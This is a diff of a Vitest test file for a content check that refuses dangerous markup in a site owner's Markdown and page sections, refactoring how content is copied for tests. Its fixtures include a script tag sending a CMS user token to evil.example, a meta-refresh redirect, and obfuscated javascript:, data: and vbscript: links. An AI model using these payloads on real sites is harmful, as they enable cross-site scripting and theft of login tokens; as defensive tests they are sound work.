@@ -1,10 +1,10 @@
-import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
-import { tmpdir } from "node:os"
+import { readFileSync, rmSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 
 import { afterEach, describe, expect, it } from "vitest"
 
 import { markupProblems } from "../../src/lib/content/safe-html"
+import { copyOfContent as copyOfContentAt } from "../../tests/setup/content-copy"
 import { checkContent } from "./content-check"
 
 // The content check on what the owner's Markdown could smuggle into a page (issue 57, decision 029), in the spellings of
@@ -25,8 +25,7 @@ afterEach(() => {
 })
 
 function copyOfContent() {
-  root = mkdtempSync(join(tmpdir(), "content-markup-"))
-  cpSync("content", join(root, "content"), { recursive: true })
+  root = copyOfContentAt("content-markup-")
   return root
 }
 
@@ -91,7 +90,7 @@ describe("the content check on the owner's Markdown", () => {
       `${article}\n<script>fetch("https://evil.example/?t="+localStorage.getItem("decap-cms-user"))</script>\n\n` +
         '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n[Win](&#106;avascript:alert(1))\n',
     )
-    expect(checkContent(root)).toEqual([
+    expect(checkContent(root, "content")).toEqual([
       `${file}: (article text): ${SCRIPT}`,
       `${file}: (article text): ${REFRESH}`,
       `${file}: (article text): ${link("javascript")}`,
@@ -100,14 +99,14 @@ describe("the content check on the owner's Markdown", () => {
 
   it("refuses an owner page whose text links to javascript:, data: and vbscript:, naming the section", () => {
     const dir = join(copyOfContent(), "content/owner-pages")
-    const page = JSON.parse(readFileSync("tests/fixtures/owner-pages/every-section.json", "utf8"))
+    const page = JSON.parse(readFileSync("tests/fixtures/content-every-option/owner-pages/every-section.json", "utf8"))
     const at = page.sections.findIndex((section: { type: string }) => section.type === "text")
     page.sections[at].body =
       "[a](javascript:alert(1)) [b]( javascript:alert(1)) [c](jav&#x09;ascript:alert(1)) [d](data:text/html,x) [e](vbscript:x)"
     writeFileSync(join(dir, "every-section.json"), JSON.stringify(page))
     const field = `${join(dir, "every-section.json")}: sections[${at}].body`
     // The item's note ("the 2nd in its list") is itemNote's, tested in content-check.test.ts.
-    expect(checkContent(root).map((problem) => problem.replace(/ \(the [^)]*\)/, ""))).toEqual([
+    expect(checkContent(root, "content").map((problem) => problem.replace(/ \(the [^)]*\)/, ""))).toEqual([
       `${field}: ${link("javascript")}`,
       `${field}: ${link("data")}`,
       `${field}: ${link("vbscript")}`,
